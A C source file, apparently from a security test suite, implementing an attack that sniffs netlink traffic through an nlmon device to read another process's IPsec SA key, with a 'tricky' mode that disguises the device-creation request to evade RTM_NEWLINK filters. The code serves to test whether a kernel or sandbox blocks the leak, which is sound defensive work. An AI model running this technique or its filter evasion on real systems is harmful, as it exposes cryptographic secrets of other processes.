// SPDX-License-Identifier: GPL-2.0
/*
 * nlmon (drivers/net/nlmon.c), netlink's monitoring device: once made and
 * up, net/netlink/af_netlink.c hands it a copy of every netlink message
 * of its network namespace, both ways, and a packet socket on it reads
 * them. Another process, as an IKE daemon would, installs an AH SA with
 * an hmac(sha256) key over NETLINK_XFRM and reads it back; the attack
 * looks for the key in what the device saw: the XFRM_MSG_NEWSA as sent,
 * the kernel's XFRM_MSG_GETSA answer (xfrm_user redacts that one under
 * LOCKDOWN_XFRM_SECRET, never the other). A kernel with NLMON as a module
 * (Debian's) has it in /modules/nlmon/, signed.
 *
 * ARGS: "keep" leaves the device made, up; "tricky" makes it as one that
 * would slip past a filter of RTM_NEWLINK might: behind an RTM_GETLINK
 * in the same send, its IFLA_LINKINFO flagged nested, a decoy
 * IFLA_INFO_KIND before the one the kernel takes (the last), which is
 * "nlmon" with bytes after its NUL.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <arpa/inet.h>
#include <glob.h>
#include <linux/if_link.h>
#include <linux/if_packet.h>
#include <linux/if_ether.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/xfrm.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "nlxfrm.h"

#define IFNAME "ldnlmon0"
#define SPI 0x1d0e
#define SA_SRC "10.31.0.1"
#define SA_DST "10.31.0.2"

/* RTM_NEWLINK of an nlmon device, up; or RTM_DELLINK of it: 0 or errno. */
static int nlmon_link(int rt, bool make)
{
	struct ifinfomsg ifi = { .ifi_family = AF_UNSPEC };
	struct nlreq q;
	char buf[1024];
	ssize_t got;

	nlreq_start(&q, make ? RTM_NEWLINK : RTM_DELLINK, make ? NLM_F_CREATE | NLM_F_EXCL : 0);
	if (make)
		ifi.ifi_flags = ifi.ifi_change = IFF_UP;
	nlreq_put(&q, &ifi, sizeof(ifi));
	nlreq_attr(&q, IFLA_IFNAME, IFNAME, sizeof(IFNAME));
	if (make) {
		struct nlattr *info = nlreq_nest(&q, IFLA_LINKINFO);

		nlreq_attr(&q, IFLA_INFO_KIND, "nlmon", sizeof("nlmon"));
		nlreq_nest_end(&q, info);
	}
	return nlreq_talk(rt, &q, buf, sizeof(buf), &got);
}

/*
 * The same, made the tricky way, one send: 0 if the device is there
 * after, or the errno of the send or of the RTM_NEWLINK's answer.
 */
static int nlmon_link_tricky(int rt)
{
	static const char kind[] = "nlmon\0zz";
	struct ifinfomsg ifi = { .ifi_family = AF_UNSPEC, .ifi_flags = IFF_UP, .ifi_change = IFF_UP };
	struct sockaddr_nl k = { .nl_family = AF_NETLINK };
	struct nlreq get, q;
	struct nlattr *info;
	struct pollfd pf = { rt, POLLIN, 0 };
	char batch[2 * sizeof(struct nlreq)], buf[8192];
	size_t glen;
	int err = 0;

	nlreq_start(&get, RTM_GETLINK, NLM_F_ACK);
	get.nh.nlmsg_seq = 1;
	nlreq_put(&get, &(struct ifinfomsg){ .ifi_index = 1 }, sizeof(struct ifinfomsg));
	nlreq_start(&q, RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL | NLM_F_ACK);
	q.nh.nlmsg_seq = 2;
	nlreq_put(&q, &ifi, sizeof(ifi));
	nlreq_attr(&q, IFLA_IFNAME, IFNAME, sizeof(IFNAME));
	info = nlreq_nest(&q, IFLA_LINKINFO | NLA_F_NESTED);
	nlreq_attr(&q, IFLA_INFO_KIND, "dummy", sizeof("dummy"));
	nlreq_attr(&q, IFLA_INFO_KIND, kind, sizeof(kind) - 1);
	nlreq_nest_end(&q, info);
	glen = NLMSG_ALIGN(get.nh.nlmsg_len);
	memcpy(batch, &get, get.nh.nlmsg_len);
	memcpy(batch + glen, &q, q.nh.nlmsg_len);
	if (sendto(rt, batch, glen + q.nh.nlmsg_len, 0, (struct sockaddr *)&k, sizeof(k)) < 0)
		return errno;
	while (poll(&pf, 1, 300) == 1) {
		ssize_t n = recv(rt, buf, sizeof(buf), 0);

		for (struct nlmsghdr *h = (void *)buf; n > 0 && NLMSG_OK(h, n); h = NLMSG_NEXT(h, n))
			if (h->nlmsg_type == NLMSG_ERROR && h->nlmsg_seq == 2)
				err = -((struct nlmsgerr *)NLMSG_DATA(h))->error;
	}
	return if_nametoindex(IFNAME) ? 0 : err ? err : ENODEV;
}

/* Load /modules/nlmon/ (what nlmon needs first, in order): 0 or errno. */
static int nlmon_module(void)
{
	glob_t g;
	int err = ENOENT;

	if (glob("/modules/nlmon/*.ko", 0, NULL, &g))
		return ENOENT;
	for (size_t i = 0; i < g.gl_pathc; i++) {
		err = load_module(g.gl_pathv[i], "");
		if (err == EEXIST)
			err = 0;
		if (err)
			break;
	}
	globfree(&g);
	return err;
}

/* The IKE daemon: add the SA, read it back, delete it. Exits 0 if it could. */
static void daemon_child(const unsigned char *key)
{
	struct nlreq q;
	char buf[4096];
	ssize_t got;
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_XFRM);
	int err;

	if (fd < 0)
		_exit(2);
	nlxfrm_sa_id(&q, XFRM_MSG_DELSA, SPI, SA_DST);
	nlreq_talk(fd, &q, buf, sizeof(buf), &got);	/* a leftover */
	err = nlxfrm_add_sa(fd, SPI, SA_SRC, SA_DST, key);
	if (!err) {
		nlxfrm_sa_id(&q, XFRM_MSG_GETSA, SPI, SA_DST);
		err = nlreq_talk(fd, &q, buf, sizeof(buf), &got);
		nlxfrm_sa_id(&q, XFRM_MSG_DELSA, SPI, SA_DST);
		nlreq_talk(fd, &q, buf, sizeof(buf), &got);
	}
	_exit(err ? 3 : 0);
}

struct seen {
	unsigned int route, xfrm;	/* messages of each protocol */
	bool newsa_key, getsa_key;	/* the key, whole, in the request, the answer */
};

static void drain(int p, const unsigned char *key, struct seen *s)
{
	struct pollfd pf = { p, POLLIN, 0 };
	unsigned char frame[8192];

	while (poll(&pf, 1, 300) == 1) {
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(p, frame, sizeof(frame), 0, (struct sockaddr *)&from, &fl);
		const struct nlmsghdr *h = (const void *)frame;
		bool key_in;

		if (n < (ssize_t)sizeof(*h))
			return;
		if (ntohs(from.sll_protocol) == NETLINK_ROUTE)
			s->route++;
		if (ntohs(from.sll_protocol) != NETLINK_XFRM)
			continue;
		s->xfrm++;
		key_in = memmem(frame, n, key, NLXFRM_KEY_BYTES) != NULL;
		/* the kernel answers XFRM_MSG_GETSA with an XFRM_MSG_NEWSA: no request */
		if (key_in && (h->nlmsg_flags & NLM_F_REQUEST))
			s->newsa_key = true;
		else if (key_in)
			s->getsa_key = true;
	}
}

static void run_nlmon_xfrm(struct aresult *o, int argc, char **argv)
{
	unsigned char key[NLXFRM_KEY_BYTES];
	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	struct seen s = { 0 };
	struct nlreq q;
	char buf[8192];
	ssize_t got;
	bool keep = argc > 0 && !strcmp(argv[0], "keep");
	bool tricky = argc > 0 && !strcmp(argv[0], "tricky");
	int rt, p = -1, err, status;
	pid_t child;

	for (int i = 0; i < NLXFRM_KEY_BYTES; i++)
		key[i] = 0xc3 ^ (i * 11);
	rt = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (rt < 0) {
		errno_outcome(o, errno, "socket(NETLINK_ROUTE)");
		return;
	}
	nlmon_link(rt, false);			/* a leftover of a failed or kept run */
	err = tricky ? nlmon_link_tricky(rt) : nlmon_link(rt, true);
	if (err == EOPNOTSUPP && !nlmon_module())
		err = tricky ? nlmon_link_tricky(rt) : nlmon_link(rt, true);
	if (err == EOPNOTSUPP) {
		unavailable(o, "no nlmon in this kernel (CONFIG_NLMON)");
		close(rt);
		return;
	}
	if (err) {
		errno_outcome(o, err, tricky ? "RTM_NEWLINK of an nlmon device, the tricky way" :
				  "RTM_NEWLINK of an nlmon device");
		close(rt);
		return;
	}
	ll.sll_ifindex = if_nametoindex(IFNAME);
	p = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	if (p < 0 || bind(p, (struct sockaddr *)&ll, sizeof(ll))) {
		errno_outcome(o, errno, "a packet socket on " IFNAME);
		goto out;
	}
	/* a NETLINK_ROUTE request, that the device must see */
	nlreq_start(&q, RTM_GETLINK, 0);
	nlreq_put(&q, &(struct ifinfomsg){ .ifi_index = ll.sll_ifindex }, sizeof(struct ifinfomsg));
	nlreq_talk(rt, &q, buf, sizeof(buf), &got);
	child = fork();
	if (!child)
		daemon_child(key);
	if (child < 0 || waitpid(child, &status, 0) != child) {
		failed(o, "no child to install the SA");
		goto out;
	}
	drain(p, key, &s);
	if (!WIFEXITED(status) || WEXITSTATUS(status))
		failed(o, "the child could not install the SA and read it back (exit %d)",
		       WIFEXITED(status) ? WEXITSTATUS(status) : -1);
	else if (s.newsa_key || s.getsa_key)
		shown(o, "%s held another process's SA key, whole",
		      s.newsa_key && s.getsa_key ? "nlmon's copies of its XFRM_MSG_NEWSA and of the "
		      "kernel's XFRM_MSG_GETSA answer" : s.newsa_key ?
		      "nlmon's copy of its XFRM_MSG_NEWSA" : "nlmon's copy of the kernel's answer");
	else if (!s.route)
		failed(o, "the device saw no message at all, not even a NETLINK_ROUTE one");
	else if (s.xfrm)
		refused(o, "nlmon saw %u NETLINK_XFRM messages, none with the key", s.xfrm);
	else
		refused(o, "nlmon saw %u NETLINK_ROUTE messages, and no NETLINK_XFRM one", s.route);
out:
	if (p >= 0)
		close(p);
	if (!keep)
		nlmon_link(rt, false);
	close(rt);
}

const struct attack attacks_nlmon[] = {
	{ "nlmon-xfrm", "another process's IPsec SA key read from a packet socket on an nlmon "
	  "device", run_nlmon_xfrm },
	{ 0 }
};
